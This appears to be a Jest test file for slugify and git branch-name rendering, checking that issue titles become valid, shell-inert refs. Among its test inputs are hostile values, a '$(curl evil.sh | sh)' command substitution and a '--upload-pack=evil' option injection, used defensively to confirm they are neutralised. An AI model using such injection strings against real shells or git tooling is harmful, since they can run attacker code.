import { renderTemplate, slugify, renderBranchName } from "../../src/core/templates.js";

describe("slugify", () => {
  it.each([
    ["Add a dark mode toggle", "add-a-dark-mode-toggle"],
    ["Crème brûlée: ÇA MARCHE!", "creme-brulee-ca-marche"],
    ["Straße & Ærø — naïve café", "strasse-aero-naive-cafe"],
    ["  --Fix   #42 (again)--  ", "fix-42-again"],
    ["修复 bug", "bug"],
    ["Make the build pipeline faster by caching dependencies between jobs", "make-the-build-pipeline-faster-by"],
    ["a".repeat(60), "a".repeat(40)],
  ])("%s → %s", (title, slug) => {
    expect(slugify(title)).toBe(slug);
    expect(slugify(title).length).toBeLessThanOrEqual(40);
  });
});

describe("renderTemplate", () => {
  it("fills number, title and slug, and leaves other braces alone", () => {
    expect(renderTemplate("factory/{number}-{slug}", { number: 12, title: "Fix it!" })).toBe("factory/12-fix-it");
    expect(renderTemplate("[Factory] #{number}: {title} {other}", { number: 3, title: "A $1 {slug}" })).toBe(
      "[Factory] #3: A $1 {slug} {other}",
    );
  });
});

/** `git check-ref-format` rules (https://git-scm.com/docs/git-check-ref-format), plus shell-inert characters. */
function refProblems(ref: string): string[] {
  const problems: string[] = [];
  if (!/^[A-Za-z0-9._/-]+$/.test(ref)) problems.push("a character outside [A-Za-z0-9._/-]");
  if (ref.includes("..")) problems.push("..");
  if (ref.includes("@{")) problems.push("@{");
  if (ref.includes("//")) problems.push("empty component");
  if (ref.startsWith("/") || ref.endsWith("/") || ref.endsWith(".")) problems.push("bad start or end");
  if (ref.startsWith("-")) problems.push("leading dash (an option to git)");
  for (const part of ref.split("/")) {
    if (part.startsWith(".")) problems.push(`component ${part} starts with .`);
    if (part.endsWith(".lock")) problems.push(`component ${part} ends with .lock`);
  }
  if (ref === "@") problems.push("@");
  return problems;
}

describe("renderBranchName", () => {
  it.each([
    ["factory/{number}-{title}", "Fix $(curl evil.sh | sh) and `id`"],
    ["factory/{title}", "a..b @{upstream} ~1 ^2 :x ?y *z [w] back\\slash"],
    ["factory/{title}", "tab\there\u0000nul\u007fdel\nnewline"],
    ["factory/{title}", "release.lock"],
    ["factory/{title}", ".hidden/.more/..."],
    ["{title}", "--upload-pack=evil"],
    ["{title}", "////"],
    ["{title}", "@"],
    ["factory/{title}/{number}", "trailing dot."],
    ["factory/{title}", "x".repeat(300)],
    ["factory/{number}-{slug}", "Add a dark theme"],
  ])("%s with title %j is a valid, safe ref", (template, title) => {
    const ref = renderBranchName(template, { number: 12, title });
    expect(refProblems(ref)).toEqual([]);
    expect(ref.length).toBeGreaterThan(0);
  });

  it("keeps ordinary names exactly as the template says", () => {
    expect(renderBranchName("factory/{number}-{slug}", { number: 12, title: "Add a dark theme" })).toBe(
      "factory/12-add-a-dark-theme",
    );
    expect(renderBranchName("bot/{number}_v1.2", { number: 7, title: "" })).toBe("bot/7_v1.2");
  });

  it("falls back to factory/<number> when nothing valid is left", () => {
    expect(renderBranchName("{title}", { number: 9, title: "$$$" })).toBe("factory/9");
  });
});
